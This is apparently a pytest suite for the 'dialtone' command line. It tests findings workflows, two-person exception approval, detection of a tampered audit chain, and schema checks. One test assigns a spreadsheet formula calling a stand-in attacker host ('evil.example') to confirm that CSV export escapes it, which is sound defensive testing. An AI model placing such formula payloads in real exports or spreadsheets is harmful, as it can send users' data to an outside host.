"""The store from the command line: evaluate records, findings, exceptions, audit, db."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import pytest


@pytest.fixture
def collected(runner, cli, workspace, monkeypatch):
    monkeypatch.chdir(workspace)
    monkeypatch.setenv("DIALTONE_USER", "alice")
    result = runner.invoke(cli, ["collect", "--as-of", "2026-06-30"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return workspace


def _json(runner, cli, *args):
    result = runner.invoke(cli, [*args, "--format", "json"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_evaluate_records_findings_and_dry_run_records_nothing(runner, cli, collected):
    dry = runner.invoke(cli, ["evaluate", "--dry-run"], catch_exceptions=False)
    assert dry.exit_code == 0 and "recorded evaluation" not in dry.output
    assert not (collected / ".dialtone" / "dialtone.db").exists()
    result = runner.invoke(cli, ["evaluate"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "recorded evaluation 1:" in result.stderr and "opened" in result.stderr
    rows = _json(runner, cli, "findings", "list", "--policy", "cost.zero-usage-lines")
    assert [r["resource_id"] for r in rows] == ["L1"]
    again = runner.invoke(cli, ["evaluate"], catch_exceptions=False)
    assert "recorded evaluation 2: no changes; 0 events" in again.stderr


def test_findings_workflow_and_history_from_the_cli(runner, cli, collected):
    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
    (row,) = _json(runner, cli, "findings", "list", "--policy", "cost.zero-usage-lines")
    fid = str(row["id"])
    for args in (["findings", "assign", fid, "bob"], ["findings", "comment", fid, "asked the carrier"],
                 ["findings", "resolve-manual", fid, "--note", "cancelled"]):
        result = runner.invoke(cli, args, catch_exceptions=False)
        assert result.exit_code == 0, result.output
    shown = runner.invoke(cli, ["findings", "show", fid], catch_exceptions=False)
    assert "status: resolved" in shown.output
    assert "alice: assigned" in shown.output and "alice: commented" in shown.output
    bad = runner.invoke(cli, ["findings", "resolve-manual", fid, "--note", "again"])
    assert bad.exit_code == 2 and "is resolved" in bad.output and "Traceback" not in bad.output
    missing = runner.invoke(cli, ["findings", "show", "9999"])
    assert missing.exit_code == 2 and "no finding 9999" in missing.output
    log = runner.invoke(cli, ["audit", "log"], catch_exceptions=False)
    assert "alice resolved finding:" in log.output and "from cli:" in log.output


def test_exceptions_need_a_second_person(runner, cli, collected, monkeypatch):
    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
    asked = runner.invoke(cli, ["exceptions", "request", "--policy", "cost.zero-usage-lines",
                                "--resource", "L1", "--justification", "alarm panel",
                                "--expires", "2099-01-01"])
    assert asked.exit_code == 2 and "at most 180 days" in asked.output
    from datetime import UTC, datetime, timedelta

    soon = (datetime.now(UTC).date() + timedelta(days=30)).isoformat()
    asked = runner.invoke(cli, ["exceptions", "request", "--policy", "cost.zero-usage-lines",
                                "--resource", "L1", "--justification", "alarm panel",
                                "--expires", soon, "--ticket", "CHG-1"], catch_exceptions=False)
    assert asked.exit_code == 0, asked.output
    own = runner.invoke(cli, ["exceptions", "approve", "1"])
    assert own.exit_code == 2 and "cannot approve it" in own.output
    other = runner.invoke(cli, ["exceptions", "approve", "1", "--actor", "carol"],
                          catch_exceptions=False)
    assert other.exit_code == 0, other.output
    (row,) = _json(runner, cli, "findings", "list", "--policy", "cost.zero-usage-lines")
    assert row["status"] == "excepted" and row["exception_id"] == 1
    (exc,) = _json(runner, cli, "exceptions", "list", "--status", "active")
    assert exc["approver"] == "carol" and exc["requested_by"] == "alice"


def test_reading_never_writes_and_says_when_an_exception_has_lapsed(runner, cli, collected):
    from datetime import UTC, datetime, timedelta

    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
    soon = (datetime.now(UTC).date() + timedelta(days=30)).isoformat()
    runner.invoke(cli, ["exceptions", "request", "--policy", "cost.zero-usage-lines", "--resource",
                        "L1", "--justification", "alarm panel", "--expires", soon],
                  catch_exceptions=False)
    runner.invoke(cli, ["exceptions", "approve", "1", "--actor", "carol"], catch_exceptions=False)
    db_path = collected / ".dialtone" / "dialtone.db"
    db = sqlite3.connect(db_path)
    with db:  # time passes: the exception's date is behind us and no writer has run since
        db.execute("UPDATE exceptions SET expires_on = '2026-01-31' WHERE id = 1")
    head = db.execute("SELECT seq, hash FROM chain_head").fetchall()
    db.close()
    for args in (["findings", "list"], ["findings", "show", "1"], ["exceptions", "list"]):
        read = runner.invoke(cli, args, catch_exceptions=False)
        assert read.exit_code == 0, read.output
        assert "1 exception(s) passed their expiry date and are not yet expired" in read.stderr
    db = sqlite3.connect(db_path)
    assert db.execute("SELECT seq, hash FROM chain_head").fetchall() == head   # nothing written
    assert db.execute("SELECT status FROM findings WHERE policy_id = 'cost.zero-usage-lines' "
                      "AND resource_id = 'L1'").fetchone() == ("excepted",)
    db.close()
    refreshed = runner.invoke(cli, ["exceptions", "refresh"], catch_exceptions=False)
    assert refreshed.exit_code == 0 and "1 expired now" in refreshed.output
    (row,) = _json(runner, cli, "findings", "list", "--policy", "cost.zero-usage-lines")
    assert row["status"] == "open"
    quiet = runner.invoke(cli, ["findings", "list"], catch_exceptions=False)
    assert "passed their expiry date" not in quiet.stderr


def test_audit_verify_detects_a_tampered_store(runner, cli, collected):
    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
    ok = runner.invoke(cli, ["audit", "verify"], catch_exceptions=False)
    assert ok.exit_code == 0 and "chain OK" in ok.output
    db = sqlite3.connect(collected / ".dialtone" / "dialtone.db")
    with db:
        db.execute("UPDATE events SET data = replace(data, 'found', 'FOUND') WHERE seq = 2")
        db.execute("UPDATE events SET actor = 'mallory' WHERE seq = 2")
    db.close()
    bad = runner.invoke(cli, ["audit", "verify"])
    assert bad.exit_code == 1 and "BROKEN at event 2" in bad.output and "altered" in bad.output


def test_audit_verify_names_the_findings_that_disagree_with_their_history(runner, cli, collected):
    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
    db = sqlite3.connect(collected / ".dialtone" / "dialtone.db")
    (n,) = db.execute("SELECT count(*) FROM findings").fetchone()
    ok = runner.invoke(cli, ["audit", "verify"], catch_exceptions=False)
    assert ok.exit_code == 0 and ok.stdout.endswith(f"findings OK: {n} agree with their history\n")
    with db:     # a finding closed by hand in the database, no event
        (fid,) = db.execute("SELECT min(id) FROM findings").fetchone()
        db.execute("UPDATE findings SET status = 'resolved' WHERE id = ?", (fid,))
    db.close()
    bad = runner.invoke(cli, ["audit", "verify"], catch_exceptions=False)
    assert bad.exit_code == 1
    assert "chain OK" in bad.stdout
    assert bad.stderr == (f"findings BROKEN: 1 of {n} disagree with their history (the first: {fid})\n"
                          f"  finding {fid}: status is 'resolved', its history says 'open'\n")


def test_audit_verify_fails_on_an_emptied_history_and_a_missing_head(runner, cli, collected):
    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
    db = sqlite3.connect(collected / ".dialtone" / "dialtone.db")
    (n,) = db.execute("SELECT count(*) FROM findings").fetchone()
    with db:     # the whole history deleted, the head put back to the start
        db.execute("DELETE FROM events")
        db.execute("UPDATE chain_head SET seq = 0, hash = ?", ("0" * 64,))
    emptied = runner.invoke(cli, ["audit", "verify"], catch_exceptions=False)
    assert emptied.exit_code == 1
    assert f"findings BROKEN: the store holds {n} findings but no history" in emptied.stderr
    with db:     # no head at all
        db.execute("DELETE FROM chain_head")
    db.close()
    headless = runner.invoke(cli, ["audit", "verify"], catch_exceptions=False)
    assert headless.exit_code == 1
    assert headless.stderr.startswith("chain BROKEN: the chain head is missing (table chain_head has no "
                                      "row 1)")
    refused = runner.invoke(cli, ["findings", "comment", "1", "hello"], catch_exceptions=False)
    assert refused.exit_code == 2 and "error: the chain head is missing" in refused.output


def test_findings_csv_cells_cannot_run_as_spreadsheet_formulas(runner, cli, collected):
    # C-3: an assignee written as a formula reached the CSV raw.
    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
    rows = _json(runner, cli, "findings", "list")
    evil = '=HYPERLINK("http://evil.example/?x","click")'
    for row, who in zip(rows[:2], (evil, "@SUM(1+1)"), strict=True):
        runner.invoke(cli, ["findings", "assign", str(row["id"]), who], catch_exceptions=False)
    result = runner.invoke(cli, ["findings", "list", "--format", "csv"], catch_exceptions=False)
    got = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert sorted(r["assignee"] for r in got if r["assignee"]) == ["'" + evil, "'@SUM(1+1)"]
    assert all(r["savings"] == "" or float(r["savings"]) >= 0 for r in got)   # numbers stay numbers


def test_an_out_of_date_store_is_refused_and_db_upgrade_says_so(runner, cli, collected):
    runner.invoke(cli, ["evaluate"], catch_exceptions=False)
    db = sqlite3.connect(collected / ".dialtone" / "dialtone.db")
    with db:
        db.execute("UPDATE alembic_version SET version_num = '0000'")
    db.close()
    refused = runner.invoke(cli, ["findings", "list"])
    assert refused.exit_code == 2 and "run `dialtone db upgrade`" in refused.output
    assert "Traceback" not in refused.output
    status = runner.invoke(cli, ["db", "status"], catch_exceptions=False)
    from dialtone.engine.store.db import head_revision

    assert f"schema: 0000 (this version needs {head_revision()})" in status.output


def test_repository_exceptions_are_validated_with_positions(runner, cli, collected):
    folder = collected / "exceptions"
    folder.mkdir()
    (folder / "lines.yaml").write_text(
        "exceptions:\n"
        "  - id: alarm-panel\n"
        "    policy: cost.zero-usage-lines\n"
        "    resources: [L1]\n"
        "    justification: alarm panel line\n"
        "    requested_by: alice\n"
        "    approved_by: alice\n"
        "    approved_on: 2026-06-01\n"
        "    expires_on: 2026-07-01\n", encoding="utf-8")
    result = runner.invoke(cli, ["policy", "validate"])
    assert result.exit_code == 1
    assert "exceptions/lines.yaml:7:18: exception 'alarm-panel': approved_by must be someone other" \
        in result.output
    text = (folder / "lines.yaml").read_text().replace("approved_by: alice", "approved_by: carol")
    (folder / "lines.yaml").write_text(text.replace("expires_on: 2026-07-01", "expires_on: 2099-01-01"))
    result = runner.invoke(cli, ["policy", "validate"])
    assert result.exit_code == 1 and "more than 180 days after 2026-06-01" in result.output


def test_an_older_snapshot_is_not_recorded_after_a_newer_one(runner, cli, collected):
    # Security review 2026-12-07: `evaluate --snapshot OLD` after the latest snapshot was recorded
    # resolved the findings the newer snapshot shows (L2 idle since January below), exit 0: a false
    # remediation record from an investigation that forgot --dry-run.
    from tests.conftest import write_csv

    write_csv(collected / "estate", "usage", ["line_id", "period", "last_activity_on", "voice_minutes",
                                              "data_mb", "sms_count"], [
        ["L1", "2026-01", "2026-01-15", "3", "10", "0"],
        ["L2", "2026-01", "2026-01-28", "40", "900", "12"],
        *[[line, f"2026-0{m}", "", "0", "0", "0"] for line in ("L1", "L2") for m in range(2, 7)]])
    older = _json(runner, cli, "snapshots", "list")[0]["id"]
    newer = runner.invoke(cli, ["collect", "--as-of", "2026-06-30"], catch_exceptions=False)
    assert newer.exit_code == 0, newer.output
    latest = _json(runner, cli, "snapshots", "list")[-1]["id"]
    assert latest != older
    assert runner.invoke(cli, ["evaluate"], catch_exceptions=False).exit_code == 0
    before = _json(runner, cli, "findings", "list", "--policy", "cost.zero-usage-lines")

    refused = runner.invoke(cli, ["evaluate", "--snapshot", older])
    assert refused.exit_code == 2 and "Traceback" not in refused.output
    assert refused.stderr.strip() == (
        f"error: snapshot {older} is older than snapshot {latest}, which evaluation 1 recorded: "
        "recording it would resolve and reopen findings as they stood then. Evaluate it with "
        "--dry-run, or evaluate the latest snapshot.")
    assert _json(runner, cli, "findings", "list", "--policy", "cost.zero-usage-lines") == before
    assert [r["status"] for r in before] == ["open", "open"]
    # Looking at it changes nothing and is still allowed; so is the latest one again.
    assert runner.invoke(cli, ["evaluate", "--snapshot", older, "--dry-run"]).exit_code == 0
    again = runner.invoke(cli, ["evaluate", "--snapshot", latest], catch_exceptions=False)
    assert "recorded evaluation 2: no changes" in again.stderr
